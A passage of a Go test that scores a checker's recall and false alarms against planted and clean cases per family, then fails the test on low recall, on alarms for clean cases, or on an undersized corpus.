	fmt.Fprintf(&b, "\n%-16s %7s %5s %7s %6s %12s %10s\n", "family", "planted", "found", "recall", "clean", "alarms(med+)", "low-only")
	var tp, tf, tc, ta int
	for _, fam := range families {
		s := scores[fam]
		fmt.Fprintf(&b, "%-16s %7d %5d %7.3f %6d %12d %10d\n", fam, s.planted, s.found, ratio(s.found, s.planted), s.clean, s.alarms, s.lowAlarms)
		tp, tf, tc, ta = tp+s.planted, tf+s.found, tc+s.clean, ta+s.alarms
	}
	fmt.Fprintf(&b, "%-16s %7d %5d %7.3f %6d %12d\n", "all", tp, tf, ratio(tf, tp), tc, ta)
	t.Log(b.String())
	for _, fam := range families {
		s := scores[fam]
		for _, x := range s.missed {
			t.Logf("missed %s: %s", fam, x)
		}
		for _, x := range s.falseHit {
			t.Logf("false alarm %s: %s", fam, x)
		}
		if s.planted > 0 && ratio(s.found, s.planted) < minRecall {
			t.Errorf("%s: recall %.3f below %.2f", fam, ratio(s.found, s.planted), minRecall)
		}
		if s.alarms > 0 {
			t.Errorf("%s: %d clean case(s) raised medium or worse findings", fam, s.alarms)
		}
	}
	if tp < 60 || tc < tp {
		t.Errorf("corpus has %d planted and %d clean cases; want at least 60 planted and as many clean", tp, tc)
	}
}

func ratio(a, b int) float64 {
	if b == 0 {
		return 1
	}
	return float64(a) / float64(b)
}

func briefs(fs []check.Finding, keep func(check.Finding) bool) string {
	var out []string
	for _, f := range fs {
		if keep == nil || keep(f) {
			out = append(out, f.Rule+" "+f.Path+" "+string(f.Severity))
		}
	}
	sort.Strings(out)
	return "[" + strings.Join(out, "; ") + "]"
}
